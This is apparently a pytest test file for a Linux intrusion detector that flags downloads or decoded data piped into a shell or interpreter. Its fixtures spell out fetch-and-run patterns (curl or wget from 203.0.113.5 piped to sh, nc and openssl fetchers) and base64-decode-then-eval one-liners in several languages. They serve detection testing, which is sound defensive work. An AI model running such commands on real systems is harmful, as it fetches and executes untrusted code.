"""pipe_to_interpreter: downloads and decoded data fed to a shell or interpreter as its
program (issue 12: `curl | sh` and `base64 -d | sh` were missed)."""

from __future__ import annotations

import pytest
from detector_factories import alerts, connect, execve, init, login_shell, proc, run, sec

from vigil.detectors.pipe_to_interpreter import PipeToInterpreterDetector
from vigil.events.model import FdInfo, Peer, Process


def reader(exepath: str, *args: str, writer: Peer | None, pid: int = 700,
           parent: Process | None = None, stdin_type: str = "pipe") -> Process:
    """`exepath args` whose stdin is a pipe written by `writer`."""
    p = proc(exepath, *args, pid=pid, parent=parent or login_shell())
    p.stdio = [FdInfo(num=0, type=stdin_type, ino=31, end="r", peer=writer),
               FdInfo(num=1, type="file", name="/dev/pts/0"),
               FdInfo(num=2, type="file", name="/dev/pts/0")]
    return p


def peer(exepath: str, *args: str, pid: int = 699) -> Peer:
    return Peer(pid=pid, name=exepath.rsplit("/", 1)[-1][:15], exepath=exepath,
                args=list(args))


CURL = peer("/usr/bin/curl", "-s", "http://203.0.113.5/x.sh")


@pytest.mark.parametrize("exepath,args", [
    ("/usr/bin/dash", ()),                               # curl ... | sh
    ("/usr/bin/bash", ("-s", "--", "--quiet")),          # wget -qO- ... | bash -s -- --quiet
    ("/usr/bin/python3.11", ("-",)),                     # curl ... | python3 -
    ("/usr/bin/python3.11", ()),
    ("/usr/bin/perl", ()),
    ("/usr/bin/node", ()),
])
def test_download_piped_into_a_shell_or_interpreter(exepath: str, args: tuple) -> None:
    dets = run(PipeToInterpreterDetector(), [execve(reader(exepath, *args, writer=CURL))])
    assert [d.rule_id for d in alerts(dets)] == ["pipe_to_interpreter.download"]
    assert dets[0].data["title"] == "Download piped into a shell or interpreter"
    assert "curl" in dets[0].output


@pytest.mark.parametrize("writer", [
    peer("/usr/bin/wget", "-qO-", "http://203.0.113.5/i"),
    peer("/usr/bin/busybox", "wget", "-O-", "http://203.0.113.5/i"),
    peer("/usr/bin/openssl", "s_client", "-quiet", "-connect", "203.0.113.5:443"),
    peer("/usr/bin/nc.openbsd", "203.0.113.5", "8000"),
])
def test_other_fetchers(writer: Peer) -> None:
    dets = run(PipeToInterpreterDetector(), [execve(reader("/usr/bin/bash", writer=writer))])
    assert [d.rule_id for d in alerts(dets)] == ["pipe_to_interpreter.download"]


def test_a_renamed_fetcher_is_caught_when_it_connects() -> None:
    """`/tmp/.x/upd | sh`: not a known downloader, but it connects out while sh waits."""
    writer = peer("/tmp/.x/upd", "203.0.113.5")
    sh = reader("/usr/bin/dash", writer=writer)
    upd = proc("/tmp/.x/upd", "203.0.113.5", pid=699, parent=login_shell())
    dets = run(PipeToInterpreterDetector(), [execve(sh), connect(upd, "203.0.113.5", 80,
                                                                  ts=sec(0.3))])
    assert [d.rule_id for d in dets] == ["pipe_to_interpreter.download"]
    assert dets[0].entity.pid == 700 and "203.0.113.5:80" in dets[0].output


@pytest.mark.parametrize("writer", [
    peer("/usr/bin/base64", "-d"), peer("/usr/bin/base64", "--decode"),
    peer("/usr/bin/xxd", "-r", "-p"), peer("/usr/bin/openssl", "enc", "-d", "-base64"),
    peer("/usr/bin/zcat", "payload.gz"), peer("/usr/bin/rev"),
    peer("/usr/bin/python3.11", "-c", "import base64,sys;print(base64.b64decode(sys.argv[1]))"),
])
def test_decoded_data_piped_into_a_shell(writer: Peer) -> None:
    dets = run(PipeToInterpreterDetector(), [execve(reader("/usr/bin/dash", writer=writer))])
    assert [d.rule_id for d in alerts(dets)] == ["pipe_to_interpreter.decode"]
    assert "Decoded" in dets[0].data["title"]


@pytest.mark.parametrize("exepath,args", [
    ("/usr/bin/python3.11", ("-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))")),
    ("/usr/bin/python3", ("-c", "import zlib,base64;exec(zlib.decompress(base64.b64decode(b'eJw=')))")),
    ("/usr/bin/perl", ("-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMQ=='))")),
    ("/usr/bin/php8.2", ("-r", "eval(base64_decode('ZWNobyAxOw=='));")),
    ("/usr/bin/node", ("-e", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())")),
    ("/usr/bin/dash", ("-c", "eval \"$(echo aWQ= | base64 -d)\"")),
    ("/usr/bin/bash", ("-c", "bash -c \"$(echo aWQ= | base64 --decode)\"")),
])
def test_inline_code_that_decodes_and_runs(exepath: str, args: tuple) -> None:
    dets = run(PipeToInterpreterDetector(), [execve(proc(exepath, *args, pid=710,
                                                         parent=login_shell()))])
    assert [d.rule_id for d in alerts(dets)] == ["pipe_to_interpreter.encoded_inline"]
    assert dets[0].data["title"] == "Encoded code decoded and run by an interpreter"


def test_look_alikes_stay_quiet() -> None:
    shell = login_shell()
    events = [
        # a CI runner feeding its job script to bash on stdin (a shell writes the heredoc)
        execve(reader("/usr/bin/bash", "-e", writer=peer("/usr/bin/bash", "-c", "run"))),
        # curl into a JSON pretty-printer and jq: -m module, not a program from stdin
        execve(reader("/usr/bin/python3.11", "-m", "json.tool", writer=CURL)),
        execve(reader("/usr/bin/jq", ".", writer=CURL)),
        # a downloaded tarball unpacked; a script run from a file with a pipe on stdin
        execve(reader("/usr/bin/tar", "xz", writer=CURL)),
        execve(reader("/usr/bin/bash", "install.sh", writer=CURL)),
        # sh -c with its own command, decoding into a file, not into the shell
        execve(proc("/usr/bin/dash", "-c", "echo aWQ= | base64 -d > /tmp/out", pid=720,
                    parent=shell)),
        execve(proc("/usr/bin/python3.11", "-c", "import base64;print(base64.b64decode('aWQ='))",
                    pid=721, parent=shell)),
        # sh reading from a terminal
        execve(reader("/usr/bin/bash", "-i", writer=None, stdin_type="file")),
    ]
    assert run(PipeToInterpreterDetector(), events) == []


def test_writer_that_connects_is_not_held_forever() -> None:
    writer = peer("/usr/local/bin/gen-config")
    gen = proc("/usr/local/bin/gen-config", pid=699, parent=init())
    dets = run(PipeToInterpreterDetector(), [
        execve(reader("/usr/bin/dash", writer=writer)),
        connect(gen, "203.0.113.5", 443, ts=sec(120))])
    assert dets == []


def test_dns_lookups_of_the_writer_do_not_count() -> None:
    writer = peer("/usr/local/bin/gen-config")
    gen = proc("/usr/local/bin/gen-config", pid=699, parent=init())
    dets = run(PipeToInterpreterDetector(), [
        execve(reader("/usr/bin/dash", writer=writer)),
        connect(gen, "10.0.0.2", 53, ts=sec(0.1), proto="udp")])
    assert dets == []


def test_under_a_package_manager_is_suppressed() -> None:
    dpkg = proc("/usr/bin/dpkg", "-i", "x.deb", pid=650, parent=init())
    post = proc("/usr/bin/dash", "/var/lib/dpkg/info/x.postinst", pid=651, parent=dpkg)
    sh = reader("/usr/bin/dash", writer=peer("/usr/bin/zcat", "data.gz"), parent=post)
    dets = run(PipeToInterpreterDetector(), [execve(sh)])
    assert len(dets) == 1 and dets[0].suppressed.entry == \
        "pipe_to_interpreter.package_managers=dpkg"


def test_writer_named_at_an_earlier_exec_of_the_same_process() -> None:
    """`curl ... | python3 -` through a pyenv shim: bash runs the shim (stdin: curl's pipe),
    execs pyenv, then python on the same stdin; curl has exited by then, so the sensor no
    longer names it at python's exec."""
    shim = reader("/usr/bin/bash", "/root/.pyenv/shims/python3", "-", writer=CURL, pid=790)
    py = reader("/root/.pyenv/versions/3.11.7/bin/python3.11", "-", writer=None, pid=790)
    dets = run(PipeToInterpreterDetector(), [execve(shim, ts=sec(0)), execve(py, ts=sec(0.2))])
    assert [d.rule_id for d in dets] == ["pipe_to_interpreter.download"]
    assert dets[0].entity.pid == 790 and "curl" in dets[0].output
